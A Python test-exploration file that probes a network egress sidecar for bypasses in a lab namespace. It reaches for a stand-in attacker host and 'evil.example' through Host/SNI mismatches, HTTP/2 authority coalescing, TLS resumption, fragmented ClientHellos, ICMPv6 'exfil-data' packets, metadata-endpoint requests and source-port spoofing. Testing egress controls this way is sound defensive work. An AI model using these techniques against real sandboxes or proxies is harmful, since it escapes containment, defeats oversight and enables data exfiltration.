"""Exploration: run many attempts, print what happened (not a pass/fail test)."""
import json, shutil, time
from pathlib import Path
from tests.support.netns import child_python, SIDECAR_UID

ATK = Path(__file__).with_name("atk.py")

def attempt(world, name, code, uid=1000, timeout=20):
    shutil.copy(ATK, world.work / "atk.py")
    mark = world.mark()
    proc = world.run(child_python(), str(world.work / "atk.py"), code, uid=uid, timeout=timeout)
    time.sleep(0.5)
    seen = world.attacker.since(mark.seen)
    pk = world.attacker_packets() - mark.packets
    dec = world.sidecar.decisions[mark.decisions:]
    print(f"\n=== {name}\nstdout: {proc.stdout.strip()[:3000]}\nstderr: {proc.stderr.strip()[-1500:]}")
    print(f"attacker_seen={seen} attacker_packets={pk}")
    for d in dec:
        print("  DECISION", json.dumps(d)[:600])
    return proc, seen, pk, dec

def test_explore(world):
    A = "10.77.0.3"
    attempt(world, "loopback 15001 plain", "out(r=tcp('127.0.0.1',15001,b'GET / HTTP/1.1\\r\\nHost: 10.77.0.3\\r\\n\\r\\n'))")
    attempt(world, "loopback 15001 tls sni openai", "out(r=tls('127.0.0.1',15001,'api.openai.com',[b'GET /v1/models HTTP/1.1\\r\\nHost: api.openai.com\\r\\n\\r\\n']))")
    attempt(world, "pod ip 10.77.0.1:15001 tls", "out(r=tls('10.77.0.1',15001,'api.openai.com',[b'GET /v1/models HTTP/1.1\\r\\nHost: api.openai.com\\r\\n\\r\\n']))")
    attempt(world, "keepalive second host", "out(r=tls('10.77.0.2',443,'api.openai.com',[b'GET /v1/models HTTP/1.1\\r\\nHost: api.openai.com\\r\\n\\r\\n', b'GET /v1/models HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n']))")
    attempt(world, "pipelined hosts", "out(r=tls('10.77.0.2',443,'api.openai.com',[b'GET /v1/models HTTP/1.1\\r\\nHost: api.openai.com\\r\\n\\r\\nGET /v1/x HTTP/1.1\\r\\nHost: 10.77.0.3\\r\\n\\r\\n']))")
    attempt(world, "CONNECT inside transparent tls", "out(r=tls('10.77.0.2',443,'api.openai.com',[b'CONNECT 10.77.0.3:80 HTTP/1.1\\r\\nHost: 10.77.0.3:80\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: 10.77.0.3\\r\\n\\r\\n']))")
    attempt(world, "CONNECT plain to attacker:80", "out(r=tcp(A,80,b'CONNECT 10.77.0.3:80 HTTP/1.1\\r\\nHost: 10.77.0.3:80\\r\\n\\r\\n'))".replace("A,", "'10.77.0.3',"))
    attempt(world, "absolute-form plain", "out(r=tcp('10.77.0.2',80,b'GET http://10.77.0.3/ HTTP/1.1\\r\\nHost: api.openai.com\\r\\n\\r\\n'))")
    attempt(world, "plain http to provider 443", "out(r=tcp('10.77.0.2',443,b'GET /v1/models HTTP/1.1\\r\\nHost: api.openai.com\\r\\n\\r\\n'))")
    attempt(world, "h2c prior knowledge to provider 443", "out(r=tcp('10.77.0.2',443,b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))")
    attempt(world, "udp to 127.0.0.1:15053 non-dns", "import socket;s=socket.socket(2,2);s.settimeout(2);s.sendto(b'x'*20,('127.0.0.1',15053));\ntry: out(r=repr(s.recv(999)))\nexcept Exception as e: out(e=repr(e))")
    attempt(world, "tcp 10.77.0.3:53 (dns tcp redirect) with http", "out(r=tcp('10.77.0.3',53,b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))")
    attempt(world, "ipv4-mapped v6 tcp", "out(r=tcp('::ffff:10.77.0.3',80,b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))")
    attempt(world, "udp v6 mapped 443", "import socket;s=socket.socket(10,2);s.settimeout(2);\ntry: s.sendto(b'x',('::ffff:10.77.0.3',443)); out(r=repr(s.recv(99)))\nexcept Exception as e: out(e=repr(e))")
    attempt(world, "metadata by tcp", "out(r=tcp('169.254.169.254',80,b'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n'))")
    attempt(world, "sctp", "import socket\ntry:\n s=socket.socket(2,1,132);s.settimeout(2);s.connect(('10.77.0.3',80));out(r='conn')\nexcept Exception as e: out(e=repr(e))")
    attempt(world, "udplite", "import socket\ntry:\n s=socket.socket(2,2,136);s.settimeout(2);s.sendto(b'x',('10.77.0.3',443));out(r='sent')\nexcept Exception as e: out(e=repr(e))")


def h2(world, name, *args):
    shutil.copy(Path(__file__).with_name("h2multi.py"), world.work / "h2multi.py")
    from tests.support.netns import VENV_BIN
    mark = world.mark()
    proc = world.run(str(VENV_BIN / "python"), str(world.work / "h2multi.py"), *args, uid=0)
    time.sleep(0.5)
    print(f"\n=== {name}\nstdout: {proc.stdout.strip()[:3000]}\nstderr: {proc.stderr.strip()[-800:]}")
    print(f"attacker_seen={world.attacker.since(mark.seen)} provider_got={len(world.provider.received)}")
    for d in world.sidecar.decisions[mark.decisions:]:
        print("  DECISION", json.dumps(d)[:500])


def test_h2(world):
    P = "10.77.0.2"
    h2(world, "coalesce evil", P, "443", "api.openai.com", "api.openai.com", "evil.example")
    h2(world, "coalesce attacker ip", P, "443", "api.openai.com", "api.openai.com", "10.77.0.3")
    h2(world, "no authority, host evil", P, "443", "api.openai.com", "api.openai.com", "-|evil.example")
    h2(world, "no authority no host", P, "443", "api.openai.com", "api.openai.com", "-")
    h2(world, "authority with userinfo", P, "443", "api.openai.com", "evil@api.openai.com")
    h2(world, "authority port", P, "443", "api.openai.com", "api.openai.com:8443")
    h2(world, "h2 to attacker ip sni openai", "10.77.0.3", "443", "api.openai.com", "api.openai.com")


def test_resume(world):
    code = r'''
import ssl, socket
ctx = ssl.create_default_context(); ctx.check_hostname=False; ctx.verify_mode=ssl.CERT_NONE
ctx.maximum_version = ssl.TLSVersion.TLSv1_2
def go(sni, session=None, req=b"GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\n\r\n"):
    s = socket.create_connection(("10.77.0.2", 443), timeout=3)
    try:
        t = ctx.wrap_socket(s, server_hostname=sni, session=session)
        t.sendall(req); d = t.recv(300)
        return t.session, t.session_reused, d[:60]
    except Exception as e:
        return None, None, repr(e)
sess, r, d = go("api.openai.com")
out(first=[r, d.decode("latin-1") if isinstance(d, bytes) else d, sess is not None])
for sni in (None, "evil.example"):
    s2, r2, d2 = go(sni, sess)
    out(sni=sni, reused=r2, data=d2.decode("latin-1") if isinstance(d2, bytes) else d2)
'''
    attempt(world, "tls1.2 resumption with other sni", code)


def test_silent(world):
    code = r'''
import socket, time
cases = {
 "connect-close": b"",
 "partial-hello": bytes.fromhex("160301020001"),
 "partial-http": b"GET /v1/models HTTP/1.1\r\nHost: api.op",
 "junk": b"\x00\x01\x02\x03junkjunk\r\n\r\n",
 "ssh": b"SSH-2.0-OpenSSH_9.0\r\n",
 "rst-after-hello-bytes": bytes.fromhex("16030100"),
}
for name, data in cases.items():
    for host in ("10.77.0.2", "10.77.0.3"):
        s = socket.create_connection((host, 443), timeout=3)
        p = s.getsockname()[1]
        if data: s.sendall(data)
        time.sleep(0.3)
        if name.startswith("rst"):
            import struct; s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.close()
        out(case=name, host=host, port=p)
'''
    proc, seen, pk, dec = attempt(world, "silent closes", code)
    time.sleep(8)
    import json as j
    ports = [j.loads(l) for l in proc.stdout.splitlines()]
    for p in ports:
        lines = [d for d in world.sidecar.decisions if d.get("client", "").endswith(":" + str(p["port"]))]
        print("CASE", p, "->", [(d["reason"], d.get("detail", "")[:80]) for d in lines])


def test_icmp6(world):
    code = r'''
import socket, struct
for t in (128, 135, 136, 133, 143):
    try:
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        for dst in ("fd77::3", "ff02::16", "ff02::1"):
            try:
                s.sendto(struct.pack("!BBHHH", t, 0, 0, 1, 1) + b"exfil-data", (dst, 0)); out(t=t, dst=dst, sent=True)
            except OSError as e: out(t=t, dst=dst, err=repr(e))
    except OSError as e: out(t=t, sock=repr(e))
'''
    attempt(world, "icmpv6 ping socket types", code)


def test_h2_silent(world):
    P = "10.77.0.2"
    h2(world, "h2 first stream no authority no host", P, "443", "api.openai.com", "-")
    h2(world, "h2 first stream authority with space", P, "443", "api.openai.com", "api.openai.com evil")
    h2(world, "h2 uppercase authority", P, "443", "api.openai.com", "API.OPENAI.COM.")
    h2(world, "h2 host header only differs by port", P, "443", "api.openai.com", "api.openai.com|api.openai.com:80")


def test_frag_hello(world):
    code = r'''
import ssl, socket, struct
def run(split, host="10.77.0.2"):
    ctx = ssl.create_default_context(); ctx.check_hostname=False; ctx.verify_mode=ssl.CERT_NONE
    inc, outb = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, outb, server_hostname="api.openai.com")
    try: obj.do_handshake()
    except ssl.SSLWantReadError: pass
    rec = outb.read()
    body = rec[5:]
    recs = b""
    for i in range(0, len(body), split):
        chunk = body[i:i+split]
        recs += rec[:3] + struct.pack("!H", len(chunk)) + chunk
    s = socket.create_connection((host, 443), timeout=4)
    s.sendall(recs)
    try:
        while True:
            try:
                obj.do_handshake(); break
            except ssl.SSLWantReadError:
                o = outb.read()
                if o: s.sendall(o)
                d = s.recv(65536)
                if not d: return "closed during handshake"
                inc.write(d)
        o = outb.read();  s.sendall(o) if o else None
        obj.write(b"GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\n\r\n"); s.sendall(outb.read())
        data = b""
        while b"gpt-fake" not in data and b"403" not in data[:20]:
            d = s.recv(65536)
            if not d: break
            inc.write(d)
            try: data += obj.read(65536)
            except ssl.SSLWantReadError: pass
        return data[:80].decode("latin-1")
    except Exception as e:
        return repr(e)
for split in (10, 50, 100):
    out(split=split, provider=run(split), attacker=run(split, "10.77.0.3"))
'''
    attempt(world, "fragmented ClientHello", code)


def test_srcports(world):
    code = r'''
import socket
cases = [("tcp", 15001, "10.77.0.1", ("10.77.0.3", 80)), ("tcp", 15053, "10.77.0.1", ("10.77.0.3", 53)),
         ("udp", 15053, "10.77.0.1", ("10.77.0.3", 53)), ("udp", 15053, "10.77.0.1", ("10.77.0.3", 443)),
         ("udp", 15001, "0.0.0.0", ("10.77.0.3", 443)), ("tcp", 0, "127.0.0.2", ("10.77.0.3", 80)),
         ("udp", 0, "127.0.0.2", ("10.77.0.3", 443))]
for proto, sport, src, dst in cases:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.bind((src, sport))
        if proto == "tcp":
            s.connect(dst); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); r = s.recv(100)
        else:
            s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x00\x00\x01\x00\x01", dst); r = s.recv(100)
        out(case=[proto, sport, src, dst], got=repr(r))
    except OSError as e:
        out(case=[proto, sport, src, dst], err=repr(e))
    s.close()
'''
    attempt(world, "sidecar source ports / loopback sources", code)
